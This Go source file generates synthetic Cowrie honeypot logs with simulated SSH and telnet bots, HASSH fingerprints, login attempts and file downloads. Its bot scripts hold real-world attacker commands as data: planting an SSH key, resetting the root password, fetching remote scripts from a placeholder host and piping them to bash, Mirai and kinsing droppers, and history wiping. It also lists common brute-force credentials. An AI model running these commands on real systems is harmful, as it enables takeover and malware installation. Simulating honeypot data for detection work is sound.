package main

import (
	"container/heap"
	"crypto/md5"
	"crypto/sha256"
	"encoding/hex"
	"math/rand/v2"
	"strconv"
	"strings"
)

// Cowrie model: a few sensors; attacker addresses drawn with a strong skew from a pool, each with a
// fixed bot kind (banner scanner, SSH brute-forcer, Mirai-like telnet bot, miner dropper) and SSH client
// (version string and key-exchange lists, with the matching HASSH). Sessions overlap in time; their
// events are written in timestamp order like cowrie.json.

type cwSensor struct {
	name string
	ip   string
	ssh  int // port Cowrie listens on for SSH
}

var cwSensors = []cwSensor{
	{"hp-fra-1", "10.10.1.20", 22}, {"hp-sgp-1", "10.20.1.15", 22}, {"hp-nyc-1", "10.30.2.8", 2222},
	{"hp-sao-1", "10.40.1.11", 22}, {"hp-tyo-1", "10.50.3.4", 22},
}
var cwSensorWeight = newWeighted([]float64{5, 4, 3, 2, 2})

// cwClient is an SSH client implementation as seen in client.version and client.kex.
type cwClient struct {
	version           string
	kex, key, enc, mc []string
	comp              []string
	hassh             string
	algs              string
	rendered          string // the kex-specific JSON fields
}

var cwClients = []*cwClient{
	{version: "SSH-2.0-Go",
		kex:  []string{"curve25519-sha256", "curve25519-sha256@libssh.org", "ecdh-sha2-nistp256", "ecdh-sha2-nistp384", "ecdh-sha2-nistp521", "diffie-hellman-group14-sha256", "diffie-hellman-group14-sha1", "ext-info-c", "kex-strict-c-v00@openssh.com"},
		key:  []string{"rsa-sha2-256-cert-v01@openssh.com", "rsa-sha2-512-cert-v01@openssh.com", "ssh-rsa-cert-v01@openssh.com", "ssh-ed25519-cert-v01@openssh.com", "ecdsa-sha2-nistp256", "ssh-ed25519", "rsa-sha2-512", "rsa-sha2-256", "ssh-rsa"},
		enc:  []string{"aes128-gcm@openssh.com", "aes256-gcm@openssh.com", "chacha20-poly1305@openssh.com", "aes128-ctr", "aes192-ctr", "aes256-ctr"},
		mc:   []string{"hmac-sha2-256-etm@openssh.com", "hmac-sha2-512-etm@openssh.com", "hmac-sha2-256", "hmac-sha2-512", "hmac-sha1", "hmac-sha1-96"},
		comp: []string{"none"}},
	{version: "SSH-2.0-libssh_0.9.6",
		kex:  []string{"curve25519-sha256", "curve25519-sha256@libssh.org", "ecdh-sha2-nistp256", "ecdh-sha2-nistp384", "ecdh-sha2-nistp521", "diffie-hellman-group18-sha512", "diffie-hellman-group16-sha512", "diffie-hellman-group-exchange-sha256", "diffie-hellman-group14-sha256", "diffie-hellman-group14-sha1", "diffie-hellman-group1-sha1", "ext-info-c"},
		key:  []string{"ssh-ed25519", "ecdsa-sha2-nistp521", "ecdsa-sha2-nistp384", "ecdsa-sha2-nistp256", "rsa-sha2-512", "rsa-sha2-256", "ssh-rsa", "ssh-dss"},
		enc:  []string{"chacha20-poly1305@openssh.com", "aes256-gcm@openssh.com", "aes128-gcm@openssh.com", "aes256-ctr", "aes192-ctr", "aes128-ctr", "aes256-cbc", "aes192-cbc", "aes128-cbc", "blowfish-cbc", "3des-cbc"},
		mc:   []string{"hmac-sha2-256-etm@openssh.com", "hmac-sha2-512-etm@openssh.com", "hmac-sha1-etm@openssh.com", "hmac-sha2-256", "hmac-sha2-512", "hmac-sha1"},
		comp: []string{"none", "zlib@openssh.com", "zlib"}},
	{version: "SSH-2.0-libssh2_1.10.0",
		kex:  []string{"ecdh-sha2-nistp256", "ecdh-sha2-nistp384", "ecdh-sha2-nistp521", "diffie-hellman-group-exchange-sha256", "diffie-hellman-group16-sha512", "diffie-hellman-group18-sha512", "diffie-hellman-group14-sha256", "diffie-hellman-group14-sha1", "diffie-hellman-group1-sha1", "diffie-hellman-group-exchange-sha1"},
		key:  []string{"ecdsa-sha2-nistp256", "ecdsa-sha2-nistp384", "ecdsa-sha2-nistp521", "ssh-ed25519", "rsa-sha2-512", "rsa-sha2-256", "ssh-rsa", "ssh-dss"},
		enc:  []string{"aes128-ctr", "aes192-ctr", "aes256-ctr", "aes256-cbc", "rijndael-cbc@lysator.liu.se", "aes192-cbc", "aes128-cbc", "blowfish-cbc", "arcfour128", "arcfour", "cast128-cbc", "3des-cbc"},
		mc:   []string{"hmac-sha2-256", "hmac-sha2-512", "hmac-sha1", "hmac-sha1-96", "hmac-md5", "hmac-md5-96", "hmac-ripemd160", "hmac-ripemd160@openssh.com"},
		comp: []string{"none"}},
	{version: "SSH-2.0-OpenSSH_7.4",
		kex:  []string{"curve25519-sha256", "curve25519-sha256@libssh.org", "ecdh-sha2-nistp256", "ecdh-sha2-nistp384", "ecdh-sha2-nistp521", "diffie-hellman-group-exchange-sha256", "diffie-hellman-group16-sha512", "diffie-hellman-group18-sha512", "diffie-hellman-group-exchange-sha1", "diffie-hellman-group14-sha256", "diffie-hellman-group14-sha1", "diffie-hellman-group1-sha1", "ext-info-c"},
		key:  []string{"ecdsa-sha2-nistp256-cert-v01@openssh.com", "ssh-ed25519-cert-v01@openssh.com", "ssh-rsa-cert-v01@openssh.com", "ecdsa-sha2-nistp256", "ssh-ed25519", "rsa-sha2-512", "rsa-sha2-256", "ssh-rsa", "ssh-dss"},
		enc:  []string{"chacha20-poly1305@openssh.com", "aes128-ctr", "aes192-ctr", "aes256-ctr", "aes128-gcm@openssh.com", "aes256-gcm@openssh.com", "aes128-cbc", "aes192-cbc", "aes256-cbc"},
		mc:   []string{"umac-64-etm@openssh.com", "umac-128-etm@openssh.com", "hmac-sha2-256-etm@openssh.com", "hmac-sha2-512-etm@openssh.com", "hmac-sha1-etm@openssh.com", "umac-64@openssh.com", "umac-128@openssh.com", "hmac-sha2-256", "hmac-sha2-512", "hmac-sha1"},
		comp: []string{"none", "zlib@openssh.com", "zlib"}},
	{version: "SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.6",
		kex:  []string{"curve25519-sha256", "curve25519-sha256@libssh.org", "ecdh-sha2-nistp256", "ecdh-sha2-nistp384", "ecdh-sha2-nistp521", "sntrup761x25519-sha512@openssh.com", "diffie-hellman-group-exchange-sha256", "diffie-hellman-group16-sha512", "diffie-hellman-group18-sha512", "diffie-hellman-group14-sha256", "ext-info-c"},
		key:  []string{"ssh-ed25519-cert-v01@openssh.com", "ecdsa-sha2-nistp256-cert-v01@openssh.com", "rsa-sha2-512-cert-v01@openssh.com", "ssh-ed25519", "ecdsa-sha2-nistp256", "rsa-sha2-512", "rsa-sha2-256"},
		enc:  []string{"chacha20-poly1305@openssh.com", "aes128-ctr", "aes192-ctr", "aes256-ctr", "aes128-gcm@openssh.com", "aes256-gcm@openssh.com"},
		mc:   []string{"umac-64-etm@openssh.com", "umac-128-etm@openssh.com", "hmac-sha2-256-etm@openssh.com", "hmac-sha2-512-etm@openssh.com", "hmac-sha1-etm@openssh.com", "umac-64@openssh.com", "umac-128@openssh.com", "hmac-sha2-256", "hmac-sha2-512", "hmac-sha1"},
		comp: []string{"none", "zlib@openssh.com"}},
	{version: "SSH-2.0-paramiko_2.11.0",
		kex:  []string{"ecdh-sha2-nistp256", "ecdh-sha2-nistp384", "ecdh-sha2-nistp521", "diffie-hellman-group16-sha512", "diffie-hellman-group-exchange-sha256", "diffie-hellman-group14-sha256", "diffie-hellman-group-exchange-sha1", "diffie-hellman-group14-sha1", "diffie-hellman-group1-sha1"},
		key:  []string{"ssh-ed25519", "ecdsa-sha2-nistp256", "ecdsa-sha2-nistp384", "ecdsa-sha2-nistp521", "rsa-sha2-512", "rsa-sha2-256", "ssh-rsa", "ssh-dss"},
		enc:  []string{"aes128-ctr", "aes192-ctr", "aes256-ctr", "aes128-cbc", "aes192-cbc", "aes256-cbc", "3des-cbc"},
		mc:   []string{"hmac-sha2-256", "hmac-sha2-512", "hmac-sha2-256-etm@openssh.com", "hmac-sha2-512-etm@openssh.com", "hmac-sha1", "hmac-md5", "hmac-sha1-96", "hmac-md5-96"},
		comp: []string{"none"}},
	{version: "SSH-2.0-PuTTY_Release_0.70",
		kex:  []string{"ecdh-sha2-nistp256", "ecdh-sha2-nistp384", "ecdh-sha2-nistp521", "diffie-hellman-group-exchange-sha256", "diffie-hellman-group-exchange-sha1", "diffie-hellman-group14-sha1", "rsa2048-sha256", "rsa1024-sha1", "diffie-hellman-group1-sha1"},
		key:  []string{"ssh-ed25519", "ecdsa-sha2-nistp256", "ecdsa-sha2-nistp384", "ecdsa-sha2-nistp521", "ssh-rsa", "ssh-dss"},
		enc:  []string{"aes256-ctr", "aes256-cbc", "rijndael-cbc@lysator.liu.se", "aes192-ctr", "aes192-cbc", "aes128-ctr", "aes128-cbc", "chacha20-poly1305@openssh.com", "blowfish-ctr", "blowfish-cbc", "3des-ctr", "3des-cbc", "arcfour256", "arcfour128"},
		mc:   []string{"hmac-sha2-256", "hmac-sha1", "hmac-sha1-96", "hmac-md5"},
		comp: []string{"none", "zlib", "zlib@openssh.com"}},
}

// cwScannerVersions are banners of scanners that disconnect after the key exchange.
var cwScannerVersions = []string{"SSH-2.0-ZGrab ZGrab SSH Survey", "SSH-2.0-Go", "SSH-2.0-libssh2_1.4.3", "SSH-2.0-OpenSSH_6.0p1 Debian-4+deb7u2"}

// Credentials, most common first (Zipf-picked).
var cwUsers = []string{"root", "admin", "user", "test", "ubuntu", "oracle", "postgres", "guest", "support", "pi", "ftpuser",
	"git", "hadoop", "deploy", "centos", "ec2-user", "nagios", "mysql", "www-data", "jenkins", "sol", "solana", "ubnt",
	"debian", "test1", "administrator", "dev", "ansible", "steam", "minecraft", "validator", "es", "elastic", "tomcat",
	"docker", "azureuser", "vagrant", "zabbix", "odoo", "user1", "demo", "service", "backup", "operator", "default", "usuario",
	"teamspeak", "ts3", "student", "web", "server", "info", "mother", "sysadmin", "super", "supervisor", "888888", "1234",
}
var cwPasswords = []string{"123456", "password", "admin", "root", "12345678", "1234", "123", "qwerty", "123456789", "12345",
	"1qaz2wsx", "P@ssw0rd", "admin123", "root123", "test", "test123", "ubuntu", "raspberry", "changeme", "111111", "abc123",
	"password123", "toor", "pass", "1q2w3e4r", "Passw0rd", "default", "user", "guest", "0", "", "qwerty123", "1234567890",
	"123123", "000000", "Aa123456", "admin@123", "P@$$w0rd", "welcome", "letmein", "dragon", "master", "monkey", "Huawei@123",
	"huawei", "vizxv", "xc3511", "888888", "666666", "7ujMko0admin", "system", "support", "oracle", "postgres", "hadoop",
	"server", "qwe123", "Password1", "passw0rd", "zaq12wsx", "1qaz@WSX", "!QAZ2wsx", "abcd1234", "root@123", "123qwe",
}
var cwTelnetCreds = [][2]string{{"root", "xc3511"}, {"root", "vizxv"}, {"admin", "admin"}, {"root", "888888"},
	{"root", "default"}, {"support", "support"}, {"root", "7ujMko0admin"}, {"user", "user"}, {"root", "hi3518"},
	{"admin", "1234"}, {"root", "12345"}, {"guest", "12345"}, {"root", "Zte521"}, {"telnetadmin", "telnetadmin"}}

// cwScript is what a bot types after logging in; HOST is replaced by a malware host.
type cwScript struct {
	cmds     []string
	notFound map[int]bool // commands Cowrie does not know
	download []string     // files fetched from HOST
}

var cwScripts = []cwScript{
	{cmds: []string{
		"cd ~; chattr -ia .ssh; lockr -ia .ssh",
		"cd ~ && rm -rf .ssh && mkdir .ssh && echo \"ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEArDp4cun2lhr4KUhBGE7VvAcwdli2a8dbnrTOrbMz1+5O73fcBOx8NVbUT0bUanUV9tJ2/9p7+vD0EpZ3Tz/+0kX34uAx1RV/75GVOmNx+9EuWOnvNoaJe0QXxziIg9eLBHpgLMuakb5+BgTFB+rKJAw9u9FSTDengvS8hX1kNFS4Mjux0hJOK8rvcEmPecjdySYMb66nylAKGwCEE6WEQHmd1mUPgHwGQ0hWCwsQk13yCGPK5w6hYp5zYkFnvlC8hGmd4Ww+u97k6pfTGTUbJk14ujvcD9iUKQTTWYYjIIu5PmUux5bsZ0R4WFwdIe6+i6rBLAsPKgAySVKPRK+oRw== mdrfckr\">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~",
		"cat /proc/cpuinfo | grep name | wc -l",
		"echo \"root:Xb7kP2qLm9Zr\"|chpasswd|bash",
		"rm -rf /tmp/secure.sh; rm -rf /tmp/auth.sh; pkill -9 secure.sh; pkill -9 auth.sh; echo > /etc/hosts.deny; pkill -9 sleep;",
		"cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'",
		"free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
		"ls -lh $(which ls)", "which ls", "crontab -l", "w", "uname -m",
		"cat /proc/cpuinfo | grep model | grep name | wc -l", "top", "uname", "uname -a", "whoami",
		"lscpu | grep Model", "df -h | head -n 2 | awk 'FNR == 2 {print $2;}'",
	}, notFound: map[int]bool{0: true}},
	{cmds: []string{
		"cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://HOST/bins.sh; chmod 777 bins.sh; sh bins.sh; tftp HOST -c get tftp1.sh; chmod 777 tftp1.sh; sh tftp1.sh; tftp -r tftp2.sh -g HOST; chmod 777 tftp2.sh; sh tftp2.sh; rm -rf *",
	}, download: []string{"bins.sh"}},
	{cmds: []string{
		"uname -s -v -n -r -m", "nproc", "cat /proc/cpuinfo | grep -c processor",
		"(curl -s -L http://HOST/x.sh || wget -q -O- http://HOST/x.sh) | bash -s",
		"crontab -l | grep -v xmrig | crontab -",
	}, download: []string{"x.sh"}},
	{cmds: []string{"uname -a", "id", "cat /etc/issue", "ps aux | grep -v grep | grep -i miner", "exit"}},
	{cmds: []string{"echo -e \"\\x6F\\x6B\"", "uname -a"}},
	{cmds: []string{
		"cd /dev/shm; wget http://HOST/kinsing; chmod +x kinsing; ./kinsing &", "history -c", "rm -rf ~/.bash_history",
	}, notFound: map[int]bool{0: false}, download: []string{"kinsing"}},
}

var cwTelnetScript = cwScript{cmds: []string{
	"enable", "system", "shell", "sh", "/bin/busybox ECCHI", "cat /proc/mounts; /bin/busybox ECCHI",
	"cd /dev/shm; cat .s || cp /bin/echo .s; /bin/busybox ECCHI",
	"/bin/busybox wget http://HOST/mirai.arm7 -O - > .x; chmod 777 .x; ./.x telnet.arm7; /bin/busybox ECCHI",
}, notFound: map[int]bool{0: true, 1: true, 4: true, 5: true, 6: true}, download: []string{"mirai.arm7"}}

// bot kinds
const (
	botScanner = iota
	botBrute
	botTelnet
	botDropper
)

type cwAttacker struct {
	ip     string
	kind   int
	client *cwClient
	script int
	start  int // offset into the password list this bot works through
}

// cwItem is one rendered event waiting in the time-ordered queue.
type cwItem struct {
	t          int64 // microseconds
	seq        uint64
	s          *cwSession
	start, end int
}

type cwQueue []cwItem

func (q cwQueue) Len() int { return len(q) }
func (q cwQueue) Less(i, j int) bool {
	if q[i].t != q[j].t {
		return q[i].t < q[j].t
	}
	return q[i].seq < q[j].seq
}
func (q cwQueue) Swap(i, j int) { q[i], q[j] = q[j], q[i] }
func (q *cwQueue) Push(x any)   { *q = append(*q, x.(cwItem)) }
func (q *cwQueue) Pop() any {
	old := *q
	x := old[len(old)-1]
	*q = old[:len(old)-1]
	return x
}

type cwSession struct {
	id     string
	a      *cwAttacker
	sensor *cwSensor
	buf    []byte
}

// cowrie generates cowrie.json events.
type cowrie struct {
	r         *rand.Rand
	next      int64 // start of the next session, microseconds
	meanGap   float64
	attackers []*cwAttacker
	pickAtt   weighted
	pickUser  weighted
	pickPass  weighted
	hosts     []string
	queue     cwQueue
	seq       uint64
	clk       clock
	shas      map[string]string
}

func newCowrie(r *rand.Rand) *cowrie {
	g := &cowrie{r: r, next: baseTime.UnixMicro(), meanGap: 0.5e6, clk: clock{layout: "2006-01-02T15:04:05"}, shas: map[string]string{}}
	for _, c := range cwClients {
		c.algs = strings.Join(c.kex, ",") + ";" + strings.Join(c.enc, ",") + ";" + strings.Join(c.mc, ",") + ";" + strings.Join(c.comp, ",")
		sum := md5.Sum([]byte(c.algs))
		c.hassh = hex.EncodeToString(sum[:])
		b := []byte(`"hassh":"` + c.hassh + `","hasshAlgorithms":"` + c.algs + `","kexAlgs":`)
		b = appendStrArray(b, c.kex)
		b = append(b, `,"keyAlgs":`...)
		b = appendStrArray(b, c.key)
		b = append(b, `,"encCS":`...)
		b = appendStrArray(b, c.enc)
		b = append(b, `,"macCS":`...)
		b = appendStrArray(b, c.mc)
		b = append(b, `,"compCS":`...)
		b = appendStrArray(b, c.comp)
		b = append(b, `,"langCS":[""],"message":"SSH client hassh fingerprint: `+c.hassh+`"`...)
		c.rendered = string(b)
	}
	clientWeight := newWeighted([]float64{30, 25, 12, 10, 8, 10, 5})
	kindWeight := newWeighted([]float64{botScanner: 25, botBrute: 55, botTelnet: 10, botDropper: 10})
	for range 6000 {
		a := &cwAttacker{ip: randPublicIP(r, nil), kind: kindWeight.pick(r), client: cwClients[clientWeight.pick(r)],
			script: r.IntN(len(cwScripts)), start: r.IntN(10)}
		g.attackers = append(g.attackers, a)
	}
	g.pickAtt = newWeighted(zipfWeights(len(g.attackers), 1.05))
	g.pickUser = newWeighted(zipfWeights(len(cwUsers), 1.3))
	g.pickPass = newWeighted(zipfWeights(len(cwPasswords), 0.9))
	for range 40 {
		g.hosts = append(g.hosts, randPublicIP(r, nil))
	}
	return g
}

func appendStrArray(b []byte, s []string) []byte {
	b = append(b, '[')
	for i, x := range s {
		if i > 0 {
			b = append(b, ',')
		}
		b = appendJSONString(b, x)
	}
	return append(b, ']')
}

func (g *cowrie) appendEvent(b []byte) []byte {
	for len(g.queue) == 0 || g.next <= g.queue[0].t {
		g.session(g.next)
		g.next += int64(expInterval(g.r, g.meanGap)) + 1
	}
	it := heap.Pop(&g.queue).(cwItem)
	return append(b, it.s.buf[it.start:it.end]...)
}

// sha returns a stable SHA-256 for a downloaded URL (the same payload each time).
func (g *cowrie) sha(url string) string {
	if s, ok := g.shas[url]; ok {
		return s
	}
	sum := sha256.Sum256([]byte("payload:" + url))
	s := hex.EncodeToString(sum[:])
	g.shas[url] = s
	return s
}

// session generates all events of one session starting at t0 and queues them.
func (g *cowrie) session(t0 int64) {
	r := g.r
	a := g.attackers[g.pickAtt.pick(r)]
	s := &cwSession{id: hexString(r, 12), a: a, sensor: &cwSensors[cwSensorWeight.pick(r)]}
	s.buf = make([]byte, 0, 2048)
	t := t0
	telnet := a.kind == botTelnet
	sport := 1024 + r.IntN(64511)

	// connect
	b := s.buf
	st := len(b)
	b = append(b, `{"eventid":"cowrie.session.connect","src_ip":"`...)
	b = append(b, a.ip...)
	b = append(b, `","src_port":`...)
	b = strconv.AppendInt(b, int64(sport), 10)
	b = append(b, `,"dst_ip":"`...)
	b = append(b, s.sensor.ip...)
	dport := s.sensor.ssh
	proto := "ssh"
	if telnet {
		dport, proto = 23, "telnet"
	}
	b = append(b, `","dst_port":`...)
	b = strconv.AppendInt(b, int64(dport), 10)
	b = append(b, `,"session":"`...)
	b = append(b, s.id...)
	b = append(b, `","protocol":"`...)
	b = append(b, proto...)
	b = append(b, `","message":"New connection: `...)
	b = append(b, a.ip...)
	b = append(b, ':')
	b = strconv.AppendInt(b, int64(sport), 10)
	b = append(b, " ("...)
	b = append(b, s.sensor.ip...)
	b = append(b, ':')
	b = strconv.AppendInt(b, int64(dport), 10)
	b = append(b, ") [session: "...)
	b = append(b, s.id...)
	b = append(b, `]","sensor":"`...)
	b = append(b, s.sensor.name...)
	b = append(b, `","timestamp":"`...)
	b = g.appendTS(b, t)
	b = append(b, `"}`...)
	b = g.push(s, b, st, t)

	if !telnet {
		version := a.client.version
		if a.kind == botScanner {
			version = cwScannerVersions[r.IntN(len(cwScannerVersions))]
		}
		t += 50000 + r.Int64N(400000)
		st = len(b)
		b = append(b, `{"eventid":"cowrie.client.version","version":`...)
		b = appendJSONString(b, version)
		b = append(b, `,"message":"Remote SSH version: `...)
		b = append(b, version...)
		b = append(b, '"')
		b = g.tail(b, s, t)
		b = g.push(s, b, st, t)

		t += 10000 + r.Int64N(200000)
		st = len(b)
		b = append(b, `{"eventid":"cowrie.client.kex",`...)
		b = append(b, a.client.rendered...)
		b = g.tail(b, s, t)
		b = g.push(s, b, st, t)
	}

	success := false
	user, pass := "", ""
	if a.kind != botScanner || r.IntN(5) == 0 {
		tries := 1 + r.IntN(3)
		switch a.kind {
		case botBrute:
			tries = 1 + int(r.ExpFloat64()*6)
		case botDropper:
			tries = 1 + r.IntN(2)
		}
		for i := range tries {
			switch {
			case telnet:
				c := cwTelnetCreds[r.IntN(len(cwTelnetCreds))]
				user, pass = c[0], c[1]
			case a.kind == botDropper && i == tries-1:
				user, pass = "root", cwPasswords[(a.start+i)%12]
			default:
				user = cwUsers[g.pickUser.pick(r)]
				if r.IntN(4) == 0 {
					pass = cwPasswords[(a.start+i)%len(cwPasswords)]
				} else {
					pass = cwPasswords[g.pickPass.pick(r)]
				}
				if r.IntN(15) == 0 {
					pass = user + []string{"123", "@123", "1", "2024", "!"}[r.IntN(5)]
				}
			}
			// Cowrie's user database here accepts root with anything but "root" and "123456"
			// some of the time, and the telnet defaults.
			ok := user == "root" && pass != "root" && pass != "123456" && (r.IntN(6) == 0 || a.kind == botDropper && i == tries-1)
			if telnet && i == tries-1 && r.IntN(3) == 0 {
				ok = true
			}
			t += 300000 + r.Int64N(2500000)
			st = len(b)
			if ok {
				b = append(b, `{"eventid":"cowrie.login.success","username":`...)
			} else {
				b = append(b, `{"eventid":"cowrie.login.failed","username":`...)
			}
			b = appendJSONString(b, user)
			b = append(b, `,"password":`...)
			b = appendJSONString(b, pass)
			b = append(b, `,"message":`...)
			msg := "login attempt [" + user + "/" + pass + "] failed"
			if ok {
				msg = "login attempt [" + user + "/" + pass + "] succeeded"
			}
			b = appendJSONString(b, msg)
			b = g.tail(b, s, t)
			b = g.push(s, b, st, t)
			if ok {
				success = true
				break
			}
		}
	}

	interactive := false
	if success {
		t += 20000 + r.Int64N(300000)
		st = len(b)
		b = append(b, `{"eventid":"cowrie.session.params","arch":"`...)
		b = append(b, []string{"linux-x64-lsb", "linux-arm-lsb", "linux-mips-lsb", "linux-x86-lsb"}[r.IntN(4)]...)
		b = append(b, `","message":[]`...)
		b = g.tail(b, s, t)
		b = g.push(s, b, st, t)
		if r.IntN(20) == 0 {
			interactive = true
			t += 10000
			st = len(b)
			b = append(b, `{"eventid":"cowrie.client.size","width":`...)
			b = strconv.AppendInt(b, int64([]int{80, 120, 200}[r.IntN(3)]), 10)
			b = append(b, `,"height":`...)
			b = strconv.AppendInt(b, int64([]int{24, 40, 50}[r.IntN(3)]), 10)
			b = append(b, `,"message":"Terminal Size"`...)
			b = g.tail(b, s, t)
			b = g.push(s, b, st, t)
		}
		sc := &cwScripts[a.script]
		if telnet {
			sc = &cwTelnetScript
		} else if a.kind == botDropper && a.script == 0 {
			sc = &cwScripts[1]
		}
		host := g.hosts[r.IntN(len(g.hosts))]
		ncmd := len(sc.cmds)
		if interactive {
			ncmd = min(ncmd, 1+r.IntN(ncmd))
		}
		for i := range ncmd {
			cmd := strings.ReplaceAll(sc.cmds[i], "HOST", host)
			t += 50000 + r.Int64N(1500000)
			if interactive {
				t += r.Int64N(8000000)
			}
			st = len(b)
			b = append(b, `{"eventid":"cowrie.command.input","input":`...)
			b = appendJSONString(b, cmd)
			b = append(b, `,"message":`...)
			b = appendJSONString(b, "CMD: "+cmd)
			b = g.tail(b, s, t)
			b = g.push(s, b, st, t)
			if sc.notFound[i] {
				t += 1000 + r.Int64N(5000)
				st = len(b)
				b = append(b, `{"eventid":"cowrie.command.failed","input":`...)
				b = appendJSONString(b, cmd)
				b = append(b, `,"message":`...)
				b = appendJSONString(b, "Command not found: "+cmd)
				b = g.tail(b, s, t)
				b = g.push(s, b, st, t)
			}
			for _, f := range sc.download {
				if !strings.Contains(cmd, "/"+f) {
					continue
				}
				url := "http://" + host + "/" + f
				t += 200000 + r.Int64N(3000000)
				st = len(b)
				if r.IntN(5) == 0 {
					b = append(b, `{"eventid":"cowrie.session.file_download.failed","url":`...)
					b = appendJSONString(b, url)
					b = append(b, `,"message":`...)
					b = appendJSONString(b, "Attempt to download file(s) from URL ("+url+") failed")
				} else {
					sha := g.sha(url)
					b = append(b, `{"eventid":"cowrie.session.file_download","url":`...)
					b = appendJSONString(b, url)
					b = append(b, `,"outfile":"var/lib/cowrie/downloads/`...)
					b = append(b, sha...)
					b = append(b, `","shasum":"`...)
					b = append(b, sha...)
					b = append(b, `","message":`...)
					b = appendJSONString(b, "Downloaded URL ("+url+") with SHA-256 "+sha+" to var/lib/cowrie/downloads/"+sha)
				}
				b = g.tail(b, s, t)
				b = g.push(s, b, st, t)
			}
		}
	}

	t += 100000 + r.Int64N(3000000)
	dur := strconv.FormatFloat(float64(t-t0)/1e6, 'f', 1, 64)
	if success {
		st = len(b)
		b = append(b, `{"eventid":"cowrie.log.closed","ttylog":"var/lib/cowrie/tty/`...)
		ttySha := hexString(r, 64)
		b = append(b, ttySha...)
		b = append(b, `","size":`...)
		b = strconv.AppendInt(b, int64(200+r.IntN(20000)), 10)
		b = append(b, `,"shasum":"`...)
		b = append(b, ttySha...)
		b = append(b, `","duplicate":false,"duration":"`...)
		b = append(b, dur...)
		b = append(b, `","message":"Closing TTY Log: var/lib/cowrie/tty/`...)
		b = append(b, ttySha...)
		b = append(b, " after "...)
		b = append(b, dur...)
		b = append(b, ` seconds"`...)
		b = g.tail(b, s, t)
		b = g.push(s, b, st, t)
	}
	st = len(b)
	b = append(b, `{"eventid":"cowrie.session.closed","duration":"`...)
	b = append(b, dur...)
	b = append(b, `","message":"Connection lost after `...)
	b = append(b, dur...)
	b = append(b, ` seconds"`...)
	b = g.tail(b, s, t)
	s.buf = g.push(s, b, st, t)
}

// push queues the event in b[start:] and returns b.
func (g *cowrie) push(s *cwSession, b []byte, start int, t int64) []byte {
	g.seq++
	s.buf = b
	heap.Push(&g.queue, cwItem{t: t, seq: g.seq, s: s, start: start, end: len(b)})
	return b
}

// tail appends the fields every event ends with.
func (g *cowrie) tail(b []byte, s *cwSession, t int64) []byte {
	b = append(b, `,"sensor":"`...)
	b = append(b, s.sensor.name...)
	b = append(b, `","timestamp":"`...)
	b = g.appendTS(b, t)
	b = append(b, `","src_ip":"`...)
	b = append(b, s.a.ip...)
	b = append(b, `","session":"`...)
	b = append(b, s.id...)
	return append(b, `"}`...)
}

// appendTS formats microseconds since the epoch as Cowrie does: 2025-03-01T00:00:12.345678Z.
func (g *cowrie) appendTS(b []byte, us int64) []byte {
	b = g.clk.append(b, us/1e6)
	b = append(b, '.')
	frac := us % 1e6
	for d := int64(100000); d > 0; d /= 10 {
		b = append(b, byte('0'+frac/d%10))
	}
	return append(b, 'Z')
}
